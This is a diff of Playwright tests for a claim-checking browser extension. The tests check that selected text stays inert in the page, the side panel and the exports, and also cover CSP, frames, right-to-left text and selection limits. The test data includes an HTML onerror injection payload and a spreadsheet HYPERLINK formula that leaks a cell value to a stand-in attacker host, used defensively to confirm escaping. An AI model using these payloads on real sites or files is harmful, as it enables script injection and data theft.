@@ -6,7 +6,11 @@ import { ClaimPage, RedditThreadPage, SidePanel } from './support/pages';
 const IMG = `<img src=x onerror="window.__pwned='img'"> Garlic cures COVID-19, "trust me", really.`;
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Masks cause disease")';
 
-test('markup and formulas in the selected text stay text: in the page, the side panel and both exports', async ({ context, server, extensionId }) => {
+test('markup and formulas in the selected text stay text: in the page, the side panel and both exports', async ({
+  context,
+  server,
+  extensionId,
+}) => {
   const page = await context.newPage();
   await page.goto(server.url('hostile.html'));
   const hostile = new ClaimPage(page);
@@ -22,28 +26,43 @@ test('markup and formulas in the selected text stay text: in the page, the side 
   await expect(panel.historyRows()).toHaveCount(2);
   await panel.open(IMG);
   await expect(panel.checkedText()).toHaveText(IMG);
-  await expect(panel.checkDetails().getByRole('link')).toHaveText('<img src=x onerror=alert(1)> Health "forum", tricks & traps');
+  await expect(panel.checkDetails().getByRole('link')).toHaveText(
+    '<img src=x onerror=alert(1)> Health "forum", tricks & traps',
+  );
   expect(await panel.page.locator('img, script:not([src])').count()).toBe(0);
   expect(await panel.page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
 
   await panel.tab('History');
   const json = await panel.exportHistory('JSON');
   expect(json.name).toMatch(/^claimlens-history-\d{4}-\d{2}-\d{2}\.json$/);
-  const parsed = JSON.parse(json.text) as { format: string; checks: { text: string; page: { title: string }; verdict: string; subscribers?: unknown; requestIds?: unknown }[] };
+  const parsed = JSON.parse(json.text) as {
+    format: string;
+    checks: { text: string; page: { title: string }; verdict: string; subscribers?: unknown; requestIds?: unknown }[];
+  };
   expect(parsed.format).toBe('claimlens-history');
   expect(parsed.checks.map((c) => c.text).sort()).toEqual([FORMULA, IMG].sort());
-  expect(parsed.checks.every((c) => c.verdict === 'Unverified' && c.subscribers === undefined && c.requestIds === undefined)).toBe(true);
+  expect(
+    parsed.checks.every((c) => c.verdict === 'Unverified' && c.subscribers === undefined && c.requestIds === undefined),
+  ).toBe(true);
 
   const csv = await panel.exportHistory('CSV');
   const lines = csv.text.trimEnd().split('\r\n');
-  expect(lines[0]).toBe('id,createdAt,status,verdict,confidence,path,text,reason,explanation,pageUrl,pageTitle,site,sources,question,answer,statement');
+  expect(lines[0]).toBe(
+    'id,createdAt,status,verdict,confidence,path,text,reason,explanation,pageUrl,pageTitle,site,sources,question,answer,statement',
+  );
   expect(lines).toHaveLength(3);
   // The formula cannot run in a spreadsheet (a leading quote) and quotes are doubled inside a quoted cell.
   expect(csv.text).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Masks cause disease"")",`);
-  expect(csv.text).toContain(`,"<img src=x onerror=""window.__pwned='img'""> Garlic cures COVID-19, ""trust me"", really.",`);
+  expect(csv.text).toContain(
+    `,"<img src=x onerror=""window.__pwned='img'""> Garlic cures COVID-19, ""trust me"", really.",`,
+  );
 });
 
-test('a page with a strict CSP and Trusted Types still gets a styled pill and a verdict badge', async ({ context, server, extensionId }) => {
+test('a page with a strict CSP and Trusted Types still gets a styled pill and a verdict badge', async ({
+  context,
+  server,
+  extensionId,
+}) => {
   const page = await context.newPage();
   const violations: string[] = [];
   page.on('console', (m) => {
@@ -70,7 +89,11 @@ test('a page with a strict CSP and Trusted Types still gets a styled pill and a 
   await expect(panel.row(claim)).toBeVisible();
 });
 
-test('claims inside same-origin and cross-origin frames are checked in their frame', async ({ context, server, extensionId }) => {
+test('claims inside same-origin and cross-origin frames are checked in their frame', async ({
+  context,
+  server,
+  extensionId,
+}) => {
   const page = await context.newPage();
   await page.goto(server.url('iframe.html'));
   const same = page.frames().find((f) => f.url().includes('frame-post.html?n=1'))!;
@@ -99,7 +122,11 @@ test('claims inside same-origin and cross-origin frames are checked in their fra
   await expect(panel.row(crossClaim)).toContainText('localhost');
 });
 
-test('right-to-left text: the pill stays on screen and the badge sits at the end of the line, on its left', async ({ context, server, extensionId }) => {
+test('right-to-left text: the pill stays on screen and the badge sits at the end of the line, on its left', async ({
+  context,
+  server,
+  extensionId,
+}) => {
   const page = await context.newPage();
   await page.goto(server.url('rtl.html'));
   const rtl = new ClaimPage(page);
@@ -126,7 +153,10 @@ test('right-to-left text: the pill stays on screen and the badge sits at the end
   await expect(panel.checkedText()).toHaveText(hebrew);
 });
 
-test('a selection over 5,000 characters is refused in the pill, with its length and what to do', async ({ context, server }) => {
+test('a selection over 5,000 characters is refused in the pill, with its length and what to do', async ({
+  context,
+  server,
+}) => {
   const page = await context.newPage();
   await page.goto(server.url('reddit-thread.html'));
   const thread = new RedditThreadPage(page);
@@ -134,13 +164,20 @@ test('a selection over 5,000 characters is refused in the pill, with its length 
   const length = (await thread.selectedText()).replace(/\s+/g, ' ').trim().length;
   expect(length).toBeGreaterThan(5000);
   const refusal = thread.pill().getByRole('alert');
-  await expect.poll(() => refusal.text()).toBe(`This selection is ${length.toLocaleString('en-US')} characters; ClaimLens splits up to 5,000 characters into claims. Select a shorter passage (a few paragraphs), or raise the limit in Settings → On pages.`);
+  await expect
+    .poll(() => refusal.text())
+    .toBe(
+      `This selection is ${length.toLocaleString('en-US')} characters; ClaimLens splits up to 5,000 characters into claims. Select a shorter passage (a few paragraphs), or raise the limit in Settings → On pages.`,
+    );
   await expect.poll(() => thread.checkButton().count()).toBe(0);
   await thread.pill().getByRole('button', { name: 'Dismiss' }).click();
   await expect.poll(() => thread.pill().count()).toBe(0);
 });
 
-test('password fields, text fields and empty or whitespace selections never show the pill', async ({ context, server }) => {
+test('password fields, text fields and empty or whitespace selections never show the pill', async ({
+  context,
+  server,
+}) => {
   const page = await context.newPage();
   await page.goto(server.url('reddit-thread.html'));
   const thread = new RedditThreadPage(page);
@@ -155,7 +192,10 @@ test('password fields, text fields and empty or whitespace selections never show
     await page.mouse.down();
     await page.mouse.move(box.right - 4, box.top + 10, { steps: 6 });
     await page.mouse.up();
-    expect(await input.evaluate((el: HTMLInputElement) => (el.selectionEnd ?? 0) - (el.selectionStart ?? 0)), field).toBeGreaterThan(5);
+    expect(
+      await input.evaluate((el: HTMLInputElement) => (el.selectionEnd ?? 0) - (el.selectionStart ?? 0)),
+      field,
+    ).toBeGreaterThan(5);
     await expect.poll(() => thread.pill().count()).toBe(0);
     // Keyboard selection in the field shows nothing either.
     await page.keyboard.press('ControlOrMeta+A');
